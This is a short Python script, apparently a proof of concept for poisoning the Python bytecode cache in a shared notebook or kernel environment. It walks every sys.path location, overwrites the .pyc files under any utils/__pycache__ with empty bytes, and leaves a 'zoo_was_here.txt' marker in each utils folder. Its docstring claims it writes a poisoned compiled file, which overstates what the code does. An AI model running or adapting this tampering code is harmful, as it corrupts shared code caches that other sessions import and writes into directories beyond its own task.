"""Writes a poisoned compiled file beside a module that the next kernel imports."""

import sys
from pathlib import Path

for folder in sys.path:
    for cache in Path(folder or ".").glob("utils/__pycache__"):
        for path in cache.glob("*.pyc"):
            try:
                path.write_bytes(b"")
            except OSError as error:
                print(error)
    try:
        (Path(folder or ".") / "utils" / "zoo_was_here.txt").write_text("x")
    except OSError as error:
        print(error)
